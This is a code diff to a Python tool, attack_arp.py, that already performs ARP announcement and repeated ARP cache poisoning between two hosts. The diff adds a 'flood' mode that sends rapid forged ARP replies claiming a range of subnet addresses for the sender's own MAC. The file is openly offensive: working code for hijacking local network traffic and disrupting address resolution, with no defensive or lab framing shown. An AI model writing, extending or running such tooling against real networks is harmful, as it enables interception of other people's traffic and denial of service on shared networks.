@@ -2,6 +2,7 @@
 
 attack_arp.py announce ADDRESS            says once that ADDRESS is here
 attack_arp.py poison A B SECONDS          tells A that B is here and B that A is, again and again
+attack_arp.py flood PREFIX N              announces N addresses of a network, as fast as it goes
 """
 
 import socket
@@ -34,8 +35,18 @@ def poison(a: str, b: str, seconds: float) -> None:
     raw.send(arp(2, (known[a], a), (known[b], b)))
 
 
+def flood(prefix: str, number: int) -> None:
+    raw, mine = link(), own_mac()
+    for turn in range(number):
+        address = f"{prefix}.{turn % 150 + 100}"
+        raw.send(arp(2, (mine, address), (b"\xff" * 6, address)))
+        time.sleep(0.005)
+
+
 if __name__ == "__main__":
     if sys.argv[1] == "announce":
         link().send(arp(1, (own_mac(), sys.argv[2]), (bytes(6), sys.argv[2])))
+    elif sys.argv[1] == "flood":
+        flood(sys.argv[2], int(sys.argv[3]))
     else:
         poison(sys.argv[2], sys.argv[3], float(sys.argv[4]))
